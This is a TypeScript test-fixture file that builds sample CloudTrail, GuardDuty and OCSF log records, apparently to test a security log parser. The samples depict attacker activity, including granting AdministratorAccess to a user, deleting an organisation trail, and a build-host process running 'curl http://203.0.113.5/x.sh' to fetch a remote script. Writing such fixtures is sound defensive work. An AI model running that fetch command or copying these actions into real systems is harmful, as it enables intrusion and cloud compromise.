import { at, iso, isoSeconds, json, type Sample, START, times } from "./sample.ts";

const CALLS = [
  [
    "iam",
    "AttachUserPolicy",
    { userName: "backup", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
  ],
  ["ec2", "RunInstances", { instanceType: "p4d.24xlarge" }],
] as const;

export function cloudtrailRecord(index: number): Record<string, unknown> {
  const [service, eventName, requestParameters] = CALLS[index % CALLS.length] ?? CALLS[0];
  return {
    eventVersion: "1.09",
    userIdentity: {
      type: "AssumedRole",
      arn: "arn:aws:sts::444455556666:assumed-role/deployer/nina",
      accountId: "444455556666",
    },
    eventTime: isoSeconds(index),
    eventSource: `${service}.amazonaws.com`,
    eventName,
    awsRegion: "eu-west-1",
    sourceIPAddress: "203.0.113.9",
    userAgent: "Boto3/1.34",
    requestParameters,
    responseElements: null,
    eventID: `c0ffee00-0000-4000-8000-00000000000${index}`,
    eventType: "AwsApiCall",
    recipientAccountId: "444455556666",
  };
}

/** A row of a table whose columns are in small letters and whose structures are text. */
function athenaRow(index: number): Record<string, unknown> {
  const record = cloudtrailRecord(index);
  return Object.fromEntries(
    Object.entries(record).map(([name, value]) => [
      name.toLowerCase(),
      name === "eventTime"
        ? `${isoSeconds(index).slice(0, 19).replace("T", " ")}.000000000`
        : name === "userIdentity"
          ? "{type=IAMUser, principalid=AIDA1, arn=arn:aws:iam::444455556666:user/nina, accountid=444455556666, username=nina, sessioncontext=null}"
          : typeof value === "object" && value !== null
            ? JSON.stringify(value)
            : value,
    ]),
  );
}

const says = ["AttachUserPolicy", "nina", "203.0.113.9"];
const common = { schema: "cloudtrail", events: 2, type: "cloudtrail", says, first: START };

function athenaAnswer(): Record<string, unknown> {
  const rows = times(2, athenaRow);
  const names = Object.keys(rows[0] ?? {});
  return {
    ResultSet: {
      Rows: [athenaCells(names), ...rows.map((row) => athenaCells(names.map((name) => row[name])))],
    },
  };
}

function athenaCells(values: readonly unknown[]): Record<string, unknown> {
  return {
    Data: values.map((value) => (typeof value === "string" ? { VarCharValue: value } : {})),
  };
}

export function finding(index: number, severity: unknown = 7.5): Record<string, unknown> {
  return {
    SchemaVersion: "2.0",
    AccountId: "444455556666",
    Region: "eu-west-1",
    Id: `feed${index}`,
    Arn: `arn:aws:guardduty:eu-west-1:444455556666:detector/d1/finding/feed${index}`,
    Type: "UnauthorizedAccess:EC2/SSHBruteForce",
    Severity: severity,
    CreatedAt: iso(index),
    UpdatedAt: iso(index + 9),
    Title: "An instance is performing SSH brute force",
    Resource: { ResourceType: "Instance", InstanceDetails: { InstanceId: "i-0aabbccddeeff0011" } },
    Service: {
      ServiceName: "guardduty",
      Count: 3,
      Action: { NetworkConnectionAction: { RemoteIpDetails: { IpAddressV4: "203.0.113.77" } } },
    },
  };
}

/** The same finding as it is exported and as EventBridge carries it. */
function inSmallLetters(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(inSmallLetters);
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name.charAt(0).toLowerCase() + name.slice(1),
      inSmallLetters(inner),
    ]),
  );
}

const GUARDDUTY = {
  schema: "guardduty",
  events: 1,
  alerts: 1,
  type: "guardduty",
  says: ["SSHBruteForce", "i-0aabbccddeeff0011", "203.0.113.77"],
  first: START,
};

function ocsfApi(index: number): Record<string, unknown> {
  return {
    class_uid: 6003,
    class_name: "API Activity",
    category_uid: 6,
    activity_id: 1,
    type_uid: 600301,
    time: at(index),
    metadata: { version: "1.1.0", uid: `0c5f-${index}`, product: { name: "CloudTrail" } },
    cloud: { provider: "AWS", region: "eu-west-1", account: { uid: "444455556666" } },
    api: {
      operation: "DeleteTrail",
      service: { name: "cloudtrail.amazonaws.com" },
      request: { data: JSON.stringify({ name: "org-trail" }) },
    },
    actor: { user: { name: "nina", type: "IAMUser", uid: "arn:aws:iam::444455556666:user/nina" } },
    src_endpoint: { ip: "203.0.113.9" },
    http_request: { user_agent: "aws-cli/2.15" },
  };
}

function ocsfProcess(index: number): Record<string, unknown> {
  return {
    class_uid: 1007,
    class_name: "Process Activity",
    category_uid: 1,
    activity_id: 1,
    time: at(index),
    metadata: { version: "1.1.0" },
    device: { hostname: "build-7" },
    actor: { user: { name: "ci" }, process: { file: { path: "/usr/bin/make" } } },
    process: { pid: 77, cmd_line: "curl http://203.0.113.5/x.sh", file: { path: "/usr/bin/curl" } },
  };
}

export const CLOUD_SAMPLES: readonly Sample[] = [
  { ...common, name: "CloudTrail, lines", documents: times(2, cloudtrailRecord).map(json) },
  {
    ...common,
    name: "CloudTrail, delivered",
    documents: [json({ Records: times(2, cloudtrailRecord) })],
  },
  {
    ...common,
    name: "CloudTrail, lookup-events",
    documents: [
      json({
        Events: times(2, (index) => ({
          EventId: `c0ffee0${index}`,
          EventName: "x",
          EventTime: isoSeconds(index),
          Username: "nina",
          CloudTrailEvent: JSON.stringify(cloudtrailRecord(index)),
        })),
        NextToken: "t",
      }),
    ],
  },
  { ...common, name: "CloudTrail, rows of Athena", documents: times(2, athenaRow).map(json) },
  { ...common, name: "CloudTrail, answer of Athena", documents: [json(athenaAnswer())] },
  {
    ...common,
    name: "CloudTrail, column of Snowflake",
    documents: times(2, (index) => json({ RAW: JSON.stringify(cloudtrailRecord(index)) })),
  },
  {
    ...common,
    name: "CloudTrail, by EventBridge",
    documents: times(2, (index) =>
      json({
        version: "0",
        id: `e${index}`,
        "detail-type": "AWS API Call via CloudTrail",
        source: "aws.iam",
        time: isoSeconds(index),
        detail: cloudtrailRecord(index),
      }),
    ),
  },
  { ...GUARDDUTY, name: "GuardDuty, get-findings", documents: [json({ Findings: [finding(0)] })] },
  { ...GUARDDUTY, name: "GuardDuty, exported", documents: [json(inSmallLetters(finding(0)))] },
  {
    ...GUARDDUTY,
    name: "GuardDuty, by EventBridge",
    documents: [
      json({
        "detail-type": "GuardDuty Finding",
        source: "aws.guardduty",
        detail: inSmallLetters(finding(0)),
      }),
    ],
  },
  {
    name: "OCSF, API activity of AWS",
    schema: "ocsf",
    documents: [json(ocsfApi(0))],
    events: 1,
    type: "cloudtrail",
    says: ["DeleteTrail", "nina", "203.0.113.9", "org-trail"],
    first: START,
  },
  {
    name: "OCSF, process activity",
    schema: "ocsf",
    documents: [json(ocsfProcess(0))],
    events: 1,
    type: "audit",
    says: ["203.0.113.5/x.sh", "ci", "build-7"],
    first: START,
  },
  {
    name: "OCSF, finding",
    schema: "ocsf",
    documents: [
      json({
        class_uid: 2004,
        class_name: "Detection Finding",
        category_uid: 2,
        activity_id: 1,
        severity_id: 4,
        time: at(0),
        metadata: { version: "1.1.0" },
        finding_info: { title: "Miner on build-7", uid: "det-1" },
        device: { hostname: "build-7" },
      }),
    ],
    events: 1,
    alerts: 1,
    type: "ocsf",
    says: ["Miner on build-7"],
    first: START,
  },
];
